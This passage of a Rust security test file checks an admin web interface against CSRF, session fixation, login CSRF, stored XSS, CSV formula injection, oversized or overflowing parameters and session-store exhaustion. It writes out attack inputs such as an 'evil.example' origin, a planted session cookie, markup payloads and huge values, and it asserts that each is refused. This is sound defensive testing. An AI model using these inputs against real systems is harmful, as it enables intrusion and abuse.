            "SELECT locked FROM authaudit.lockout_state WHERE tenant_id = $1 AND user_id = 'alice'",
            &[&TENANT],
        )
        .unwrap()
        .get(0);
    assert!(locked, "alice is still locked");
}

/// CSRF and session attacks: cross-origin posts, `Origin: null`, another
/// session's token, session fixation, a sign-in finished in another
/// browser, and sign-out CSRF.
#[test]
fn forms_from_elsewhere_and_planted_sessions_are_refused() {
    let s = scene("adm_atk_csrf", "");
    let dora = s.sign_in("dora"); // may reset
    let ana = s.sign_in("ana");
    let origin = s.base();
    let path = reset_path("alice");
    for (headers, form, why) in [
        (
            vec![("Origin", "http://evil.example")],
            reset_form(&dora, "k1"),
            "a cross-origin post with the right token",
        ),
        (
            vec![("Origin", "http://localhost")],
            reset_form(&dora, "k2"),
            "another port is another origin",
        ),
        (
            vec![("Origin", "null"), ("Sec-Fetch-Site", "cross-site")],
            reset_form(&dora, "k3"),
            "Origin null from another site",
        ),
        (
            vec![("Sec-Fetch-Site", "cross-site")],
            reset_form(&dora, "k4"),
            "no Origin, cross-site",
        ),
        (
            vec![("Sec-Fetch-Site", "same-site")],
            reset_form(&dora, "k5"),
            "same-site is not same-origin",
        ),
        (
            vec![("Origin", origin.as_str())],
            reset_form(&ana, "k6"),
            "another session's token",
        ),
        (
            vec![("Origin", origin.as_str())],
            form_encode(&[("key", "k7"), ("ticket", "T"), ("reason", "R")]),
            "no token",
        ),
        (
            vec![("Origin", origin.as_str())],
            form_encode(&[
                ("csrf", ""),
                ("key", "k8"),
                ("ticket", "T"),
                ("reason", "R"),
            ]),
            "an empty token",
        ),
        (
            vec![("Origin", origin.as_str())],
            format!("csrf={}x&key=k9&ticket=T&reason=R", dora.csrf),
            "a longer token",
        ),
        (
            vec![("Origin", origin.as_str())],
            format!("csrf=wrong&csrf={}&key=k10&ticket=T&reason=R", dora.csrf),
            "the right token second",
        ),
    ] {
        let r = s.post_as(Some(&dora), &path, &headers, &form);
        assert_eq!(r.status, 403, "{why}: {}", r.body);
        assert_guarded(&r, why);
    }
    assert_eq!(s.resets(), 0, "no forged form recorded a reset");
    // The same form from the interface itself is recorded (so the refusals
    // above were the checks', not a broken form).
    let r = s.post_as(
        Some(&dora),
        &path,
        &[("Origin", &origin)],
        &reset_form(&dora, "good"),
    );
    assert_eq!(r.status, 303, "{}", r.body);
    assert_eq!(
        r.header("location"),
        Some("/admin/t/tenant-a/accounts/alice?reset=1")
    );
    // A browser that hides the Origin (`null`) but says same-origin.
    let r = s.post_as(
        Some(&dora),
        &path,
        &[("Origin", "null"), ("Sec-Fetch-Site", "same-origin")],
        &reset_form(&dora, "good"),
    );
    assert_eq!(r.status, 303, "{}", r.body);
    assert_eq!(s.resets(), 1, "one reset for one idempotency key");

    // Session fixation: a cookie planted before the sign-in is neither
    // kept nor made a session.
    let planted = "planted-by-the-attacker-0000000000000000000";
    let (authorize, state) = s.start(&[("Cookie", &format!("authaudit_session={planted}"))]);
    let back = s.at_provider(&authorize, "ana");
    let r = s.callback(
        &back,
        &format!("authaudit_session={planted}; authaudit_login={state}"),
    );
    assert_eq!(r.status, 303, "{}", r.body);
    let issued = r.set_cookie("authaudit_session").unwrap();
    assert_ne!(issued, planted);
    assert!(issued.len() >= 43, "a 256-bit identifier");
    let r = get(
        s.api,
        &format!("/admin/t/{TENANT}/"),
        &[("Cookie", &format!("authaudit_session={planted}"))],
    );
    assert_eq!(r.status, 401, "the planted cookie is no session");
    // Login CSRF: the attacker's own code and state, in the victim's
    // browser (whose login cookie is another sign-in's, or none).
    let (authorize, _attacker_state) = s.start(&[]);
    let attackers = s.at_provider(&authorize, "olaf");
    let (_, victims_state) = s.start(&[]);
    for cookie in [format!("authaudit_login={victims_state}"), String::new()] {
        let r = s.callback(&attackers, &cookie);
        assert_eq!(
            r.status, 400,
            "the attacker's sign-in in the victim's browser"
        );
        assert!(r.set_cookie("authaudit_session").is_none());
    }

    // Sign-out CSRF: without the token or from elsewhere, the session lives.
    let t = format!("/admin/t/{TENANT}/");
    for (headers, body) in [
        (vec![], String::new()),
        (vec![("Origin", origin.as_str())], "csrf=wrong".to_string()),
        (
            vec![("Origin", "http://evil.example")],
            format!("csrf={}", ana.csrf),
        ),
        (
            vec![("Sec-Fetch-Site", "cross-site")],
            format!("csrf={}", ana.csrf),
        ),
    ] {
        let r = s.post_as(Some(&ana), "/admin/logout", &headers, &body);
        assert_eq!(r.status, 403, "{headers:?} {body}");
        assert_eq!(s.get_as(&ana, &t).status, 200, "still signed in");
    }
    let r = s.post_as(
        Some(&ana),
        "/admin/logout",
        &[("Origin", &origin)],
        &format!("csrf={}", enc(&ana.csrf)),
    );
    assert_eq!(r.status, 303);
    assert!(r
        .set_cookie("authaudit_session")
        .is_some_and(|v| v.is_empty()));
    assert_eq!(s.get_as(&ana, &t).status, 401, "signed out");
    // ... and the old cookie cannot be brought back.
    let r = s.post_as(
        Some(&ana),
        &path,
        &[("Origin", &origin)],
        &reset_form(&ana, "after-out"),
    );
    assert_eq!(r.status, 401);
    assert!(!s.log().contains("eyJ"), "a token in the API's log");
}

/// Markup in every field a recorder or a signed-in person controls is
/// text on every page; in Chromium no dialog fires and no element of it
/// exists.
#[test]
fn stored_markup_is_shown_as_text_on_every_page() {
    let s = scene("adm_atk_xss", "");
    // The operator's own subject and a ticket typed into the reset form.
    let evil = s.sign_in(XSS_LOGIN);
    let r = s.post_as(
        Some(&evil),
        &reset_path(XSS_LOCKED),
        &[("Origin", &s.base())],
        &form_encode(&[
            ("csrf", &evil.csrf),
            ("key", "xss"),
            ("ticket", "<xss-form-ticket>"),
            ("reason", "<xss-form-reason>"),
        ]),
    );
    assert_eq!(r.status, 303, "{}", r.body);
    let ana = s.sign_in("ana");
    let t = format!("/admin/t/{TENANT}");
    let pages = [
        format!("{t}/"),
        format!("{t}/live"),
        format!("{t}/campaigns"),
        format!("{t}/campaigns?q={}", enc("<xss-q>")),
        format!("{t}/campaigns?kind={}", enc("\"><xss-kind>")),
        format!("{t}/search?source=198.51.100.7&limit=1000"),
        format!(
            "{t}/search?user={}&channel={}",
            enc(XSS_USER),
            enc("\"><xss-ch>")
        ),
        format!("{t}/search?user={}", enc(XSS_LOCKED)),
        format!(
            "{t}/search?type=login_failed&limit=5&{}={}",
            enc("<xss-k>"),
            enc("<xss-v>")
        ),
        format!("{t}/accounts/{}", enc(XSS_USER)),
        format!("{t}/accounts/{}", enc(XSS_LOCKED)),
        format!("{t}/accounts/{}", enc(XSS_SUCCESS)),
        format!("{t}/accounts/meta-user"),
        format!("{t}/sources/198.51.100.7"),
        format!("{t}/sources/203.0.113.1"),
        format!("{t}/sources/192.0.2.50"),
        format!("{t}/report"),
        format!("{t}/evidence"),
    ];
    let mut seen = String::new();
    for path in &pages {
        let r = s.get_as(&ana, path);
        assert_eq!(r.status, 200, "{path}: {}", r.body);
        assert!(
            !r.body.contains("<xss"),
            "{path} holds markup from data: {}",
            r.body
        );
        assert!(!r.body.contains("<script>"), "{path}");
        seen.push_str(&r.body);
    }
    // And the values are there, as text.
    for shown in [
        "&lt;xss-user",
        "&lt;xss-locked&gt;",
        "&lt;xss-success",
        "&lt;xss-ticket&gt;",
        "&lt;xss-operator&gt;",
        "&lt;xss-fp&gt;",
        "&lt;xss-form-ticket&gt;",
        "&lt;xss-login&gt;",
        "&lt;xss-q&gt;",
    ] {
        assert!(seen.contains(shown), "{shown} is shown somewhere");
    }
    let mut evil_pages = String::new();
    for path in [format!("{t}/"), format!("{t}/accounts/{}", enc(XSS_LOCKED))] {
        let r = s.get_as(&evil, &path);
        assert!(!r.body.contains("<xss"), "{path} as {XSS_LOGIN}");
        evil_pages.push_str(&r.body);
    }
    assert!(evil_pages.contains("&lt;xss-login&gt;&quot;&#39;"));

    // The same pages in Chromium, with the session's cookie.
    let run = Command::new("node")
        .arg("admin_attacks.mjs")
        .current_dir(ui_dir())
        .env("BASE", s.base())
        .env("SESSION", &ana.session)
        .env("PAGES", serde_json::to_string(&pages).unwrap())
        .env("LIVE", format!("{t}/"))
        .stdin(Stdio::null())
        .output()
        .expect("node runs the browser attacks");
    let stdout = String::from_utf8_lossy(&run.stdout);
    assert!(
        run.status.success(),
        "{stdout}\n{}",
        String::from_utf8_lossy(&run.stderr)
    );
    assert!(stdout.contains("all checks passed"), "{stdout}");
}

/// The CSV export never hands a spreadsheet a formula, whatever an
/// account is named; every field is quoted.
#[test]
fn the_csv_export_never_holds_a_formula() {
    let s = scene("adm_atk_csv", "");
    let ana = s.sign_in("ana");
    let r = s.get_as(
        &ana,
        &format!("/admin/t/{TENANT}/export?format=csv&source=198.51.100.7"),
    );
    assert_eq!(r.status, 200);
    assert!(r.header("content-type").unwrap().starts_with("text/csv"));
    let lines: Vec<&str> = r.body.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert!(lines[0].starts_with("seq,occurred_at"));
    let rows = &lines[1..];
    for f in FORMULAS {
        let quoted = format!("\"'{}\"", f.replace('"', "\"\""));
        assert!(
            rows.iter().any(|l| l.contains(&quoted)),
            "{f} is exported as text {quoted}:\n{}",
            r.body
        );
    }
    // No cell of any row starts a formula: split on quoted fields.
    for l in rows {
        let mut cells = Vec::new();
        let mut cur = String::new();
        let mut quoted = false;
        let mut chars = l.chars().peekable();
        while let Some(ch) = chars.next() {
            match (ch, quoted) {
                ('"', true) if chars.peek() == Some(&'"') => {
                    cur.push('"');
                    chars.next();
                }
                ('"', _) => quoted = !quoted,
                (',', false) => cells.push(std::mem::take(&mut cur)),
                (c, _) => cur.push(c),
            }
        }
        cells.push(cur);
        assert_eq!(cells.len(), 11, "{l}");
        assert!(
            l.starts_with('"') && l.ends_with('"'),
            "every field quoted: {l}"
        );
        for cell in cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell {cell:?} in {l}"
            );
        }
    }
}

/// Resource abuse: huge limits and pages, long periods, times beyond any
/// calendar, long account names. Each is refused or bounded, and the
/// server answers on.
#[test]
fn oversized_requests_are_refused_or_bounded() {
    let s = scene("adm_atk_abuse", "");
    let ana = s.sign_in("ana");
    let t = format!("/admin/t/{TENANT}");
    let long = "a".repeat(5000);
    for (path, ok) in [
        (format!("{t}/search?limit=1000000"), [400, 400]),
        (format!("{t}/search?limit=-1"), [400, 400]),
        (
            format!("{t}/search?limit=99999999999999999999999"),
            [400, 400],
        ),
        (
            format!("{t}/search?after=99999999999999999999999"),
            [400, 400],
        ),
        (
            format!("{t}/search?since=0000-01-01T00:00:00Z&limit=1000"),
            [200, 400],
        ),
        (
            format!("{t}/campaigns?from=2026-01-01T00:00&to=2026-02-02T00:00"),
            [400, 400],
        ),
        (
            format!("{t}/report?from=2026-01-01T00:00&to=2026-03-01T00:00"),
            [400, 400],
        ),
        (
            format!("{t}/accounts/alice?from=2025-01-01T00:00"),
            [400, 400],
        ),
        (
            format!("{t}/campaigns?page=18446744073709551616"),
            [200, 200],
        ),
        (format!("{t}/campaigns?page=9999999999"), [200, 200]),
        (format!("{t}/campaigns?page=0"), [200, 200]),
        (format!("{t}/campaigns?page=-1"), [200, 200]),
        // Repeated parameters: the first counts (here a bad `to`).
        (
            format!("{t}/campaigns?from=2026-12-07T10:00&from=x&to=y&to=2026-12-07T11:00"),
            [400, 400],
        ),
        (format!("{t}/report?to=2026-02-31T00:00"), [200, 400]),
        (format!("{t}/accounts/{long}"), [400, 403]),
        (format!("{t}/search?user={long}"), [200, 400]),
        (format!("{t}/sources/{}", "1".repeat(3000)), [400, 400]),
        (
            format!("{t}/evidence/bundle?seq=9223372036854775807"),
            [400, 400],
        ),
        (
            format!("{t}/evidence/bundle?seq=999999999999999999"),
            [404, 409],
        ),
        (format!("{t}/evidence/99999999999999999999"), [400, 400]),
    ] {
        let started = Instant::now();
        let r = s.get_as(&ana, &path);
        assert!(
            ok.contains(&r.status),
            "{path:.120}: {} {:.300}",
            r.status,
            r.body
        );
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "{path:.120} took long"
        );
        assert_guarded(&r, &path);
    }
    // The server still serves.
    assert_eq!(s.get_as(&ana, &format!("{t}/")).status, 200);
}

/// Times at the ends of the calendar: the period's arithmetic must not
/// overflow (in a debug build that is a panic, and the connection closes
/// without an answer; in release a wrapped time).
#[test]

fn times_beyond_the_calendar_are_refused_not_overflowed() {
    let s = scene("adm_atk_years", "");
    let ana = s.sign_in("ana");
    let t = format!("/admin/t/{TENANT}");
    for q in [
        "from=300000000-01-01T00:00&to=300000000-01-02T00:00",
        "from=9223372036854775807-03-01T00:00",
        "to=9223372036854775807-03-01T00:00",
        "from=-9223372036854775807-03-01T00:00&to=2026-01-01T00:00",
    ] {
        for page in [
            "campaigns",
            "report",
            "accounts/alice",
            "sources/198.51.100.7",
        ] {
            let r = s.get_as(&ana, &format!("{t}/{page}?{q}"));
            assert_eq!(r.status, 400, "{page}?{q}: {} {:.200}", r.status, r.body);
        }
    }
    assert!(!s.log().contains("panicked"), "{}", s.log());
}

/// Sessions are bounded: a full store refuses a sign-in as it finishes
/// (503) and keeps the sessions it holds.
#[test]
fn a_full_session_store_refuses_sign_ins_and_keeps_its_sessions() {
    let s = scene("adm_atk_full", "max_sessions = 3");
    let a = s.sign_in("ana");
    let b = s.sign_in("dora");
    let c = s.sign_in("olaf");
    let (authorize, state) = s.start(&[]);
    let back = s.at_provider(&authorize, "hanna");
    let r = s.callback(&back, &format!("authaudit_login={state}"));
    assert_eq!(r.status, 503, "{}", r.body);
    assert!(r.set_cookie("authaudit_session").is_none());
    assert_guarded(&r, "a refused sign-in");
    for (who, path) in [
        (&a, format!("/admin/t/{TENANT}/")),
        (&b, format!("/admin/t/{TENANT}/")),
        (&c, "/admin/t/tenant-b/".to_string()),
    ] {
        assert_eq!(s.get_as(who, &path).status, 200);
    }
    // Signing out frees a place.
    let r = s.post_as(
        Some(&a),
        "/admin/logout",
        &[("Origin", &s.base())],
        &format!("csrf={}", enc(&a.csrf)),
    );
    assert_eq!(r.status, 303);
    let d = s.sign_in("hanna");
    assert_eq!(
        s.get_as(&d, &format!("/admin/t/{TENANT}/search?user=hq-user"))
            .status,
        200
    );
}

/// An unauthenticated client that starts sign-ins without finishing them
/// must not keep the organisation's people from signing in (a sign-in in
/// progress holds nothing on the server).
#[test]

fn a_flood_of_unfinished_sign_ins_does_not_lock_people_out() {
    let s = scene("adm_atk_flood", "max_sessions = 20");
    // A person's sign-in started before the flood.
    let (authorize, state) = s.start(&[]);
    for _ in 0..40 {
        let _ = get(s.api, "/admin/login", &[]);
    }
    let back = s.at_provider(&authorize, "ana");
    let r = s.callback(&back, &format!("authaudit_login={state}"));
    assert_eq!(
        r.status, 303,
        "a sign-in begun before the flood finishes: {}",
        r.body
    );
    // And one begun after it.
    let r = get(s.api, "/admin/login", &[]);
    assert_eq!(
        r.status, 303,
        "a sign-in can start during the flood: {}",
        r.body
    );
}
